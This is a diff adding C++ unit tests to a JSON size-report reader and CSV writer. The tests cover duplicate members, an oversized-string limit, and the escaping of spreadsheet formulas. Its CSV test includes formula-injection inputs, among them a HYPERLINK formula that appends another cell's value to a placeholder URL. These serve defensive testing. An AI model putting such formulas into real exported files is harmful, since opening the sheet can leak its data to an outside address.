@@ -280,6 +280,20 @@ TEST(ReadDocument, SaysWhatIsWrong) {
       {root(2, "", leaf("f", 1) + "," + leaf("f", 1)), "symbol \"f\" is twice in the root"},
       {root(2, group("a", 2, group("b", 1, "", "") + "," + group("b", 1, "", ""), ""), ""),
        "group \"b\" is twice in group \"a\""},
+      // A member twice in any object: JSON.parse would keep the last, so the page would differ.
+      {"{'total':1,'total':2,'children':{},'leaves':{}}",
+       "the member \"total\" is twice in the root"},
+      {"{'total':1,'children':{},'children':{'a':{'total':1,'children':{},'leaves':{}}},"
+       "'leaves':{}}",
+       "the member \"children\" is twice in the root"},
+      {root(1, group("a", 1, "", "'x':{'size':1,'size':2,'address':2,'mangledName':'x'}"), ""),
+       "the member \"size\" is twice in symbol \"x\" in group \"a\""},
+      {root(1, "", "'x':{'size':1,'address':2,'mangledName':'x','demangledName':'a',"
+                   "'demangledName':'b'}"),
+       "the member \"demangledName\" is twice in symbol \"x\" in the root"},
+      {"{'total':0,'children':{},'leaves':{},'v':null,'v':[]}", "the member \"v\" is twice in the root"},
+      {"{'total':0,'children':{},'leaves':{},'meta':[{'a':1,'b':{},'a':2}]}",
+       "the member \"a\" is twice in one object"},
   };
   for (Case& c : cases) {
     SCOPED_TRACE(c.json);
@@ -291,6 +305,20 @@ TEST(ReadDocument, SaysWhatIsWrong) {
                    "},'extra':null}");
   ASSERT_EQ(d.leaves.size(), 1u);
   EXPECT_EQ(d.leaves[0].size, 5u);
+}
+
+TEST(ReadDocument, RefusesAStringLongerThanANameMayBeBeforeParsingIt) {
+  std::string name(kMaxDocumentString, 'n');
+  std::string json = "{\"total\":1,\"children\":{},\"leaves\":{\"x\":{\"size\":1,"
+                     "\"address\":2,\"mangledName\":\"" + name + "\"}}}";
+  EXPECT_EQ(readDocument(json).leaves.at(0).mangledName.size(), kMaxDocumentString);
+  size_t at = json.find(name) - 1;
+  json.insert(at + 1, "\\\"");  // an escaped quote does not end it
+  expectThrowsWithMessage<std::runtime_error>(
+      [&] { (void)readDocument(json, 15); },
+      "the string at byte " + std::to_string(at + 15) + " is " +
+          std::to_string(kMaxDocumentString + 2) +
+          " bytes long, more than the 16 MiB that a name may take");
 }
 
 TEST(LooksLikeDocument, TellsDocumentsFromMaps) {
@@ -392,6 +420,22 @@ TEST(Csv, QuotesFieldsAsRfc4180Says) {
   for (const Case& c : cases) {
     SCOPED_TRACE(c.field);
     EXPECT_EQ(report::csvField(c.field), c.written);
+  }
+  // Text that a spreadsheet would evaluate stays text; anything else is left as it is.
+  const Case textCells[] = {
+      {"=HYPERLINK(\"http://x\"&A2,\"Open\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Open\"\")\""},
+      {"+1", "'+1"},
+      {"-1+2", "'-1+2"},
+      {"@SUM(A1)", "'@SUM(A1)"},
+      {"\t=1", "'\t=1"},
+      {"\r=1", "\"'\r=1\""},
+      {"a=1", "a=1"},
+      {" =1", " =1"},
+      {"", ""},
+  };
+  for (const Case& c : textCells) {
+    SCOPED_TRACE(c.field);
+    EXPECT_EQ(report::csvTextField(c.field), c.written);
   }
   Document d =
       doc(root(30, group("a,b", 30, group("c", 30, "", leaf("x\\u0022y", 30, "_Dx")), ""), ""));
